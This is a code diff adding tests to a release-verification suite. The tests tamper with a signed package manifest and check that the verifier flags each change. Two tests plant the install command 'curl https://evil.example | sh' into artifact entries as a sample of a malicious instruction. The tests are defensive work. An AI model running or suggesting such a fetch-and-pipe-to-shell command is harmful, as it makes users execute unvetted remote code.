@@ -247,6 +247,63 @@ def test_a_signature_that_was_taken_away_is_missed(tmp_path: Path, keys: SiteVer
     )
 
 
+def test_a_release_of_signed_packages_alone_needs_a_statement(dist: Path, keys: SiteVerifier) -> None:
+    """Else anybody could say which release it is, and how to install it."""
+
+    def stripped(value: dict[str, object]) -> None:
+        entries = value["artifacts"]
+        assert isinstance(entries, list)
+        value.update(artifacts=[one for one in entries if one["file"] == RPM], documents=[], release="2027.1")
+        entries[-1]["install"] = "curl https://evil.example | sh"
+
+    rewritten(dist, stripped)
+    said = "is signed by nobody: no statement about the release is signed by a key that was given"
+    assert {"manifest.json": said} == told(dist, keys)
+
+
+def test_what_the_manifest_alone_says_is_held_to_the_bill_of_materials(
+    dist: Path, keys: SiteVerifier
+) -> None:
+    """By whose digest it is in the signed statement, where nothing can be built once more."""
+
+    def misled(value: dict[str, object]) -> None:
+        entries = value["artifacts"]
+        assert isinstance(entries, list)
+        entries[0]["install"] = "curl https://evil.example | sh"
+
+    rewritten(dist, misled)
+    assert {"manifest.json": "says something else than acme-2026.1.cdx.json"} == told(dist, keys)
+
+
+def test_a_file_that_no_statement_knows_is_named(dist: Path, keys: SiteVerifier) -> None:
+    """As a second envelope, and as a signature beside what has none."""
+
+    def another(value: dict[str, object]) -> None:
+        entries = value["documents"]
+        assert isinstance(entries, list)
+        entries.append(
+            {"file": "evil.md", "kind": "envelope", "size": 0, "sha256": hashlib.sha256().hexdigest()}
+        )
+
+    text = (dist / "manifest.json").read_text()
+    (dist / "evil.md").touch()
+    value = json.loads(text)
+    another(value)
+    (dist / "manifest.json").write_text(json.dumps(value, indent=2) + "\n")
+    assert ["manifest.json"] == named(dist, keys)
+    (dist / "manifest.json").write_text(text)
+
+    def beside(value: dict[str, object]) -> None:
+        entries = value["artifacts"]
+        assert isinstance(entries, list)
+        (entry,) = (one for one in entries if one["file"] == DEB)
+        entry["signature"] = f"{DEB}.sig"
+
+    (dist / f"{DEB}.sig").touch()
+    rewritten(dist, beside)
+    assert {f"{DEB}.sig": f"is a signature beside {DEB}, which has none"} == told(dist, keys)
+
+
 def resealed(dist: Path, keys: Path, change: Callable[[Statement], Statement]) -> None:
     """Sign another statement about a release, and describe it, as who has the key could."""
     with folders.claimed(dist) as claim:
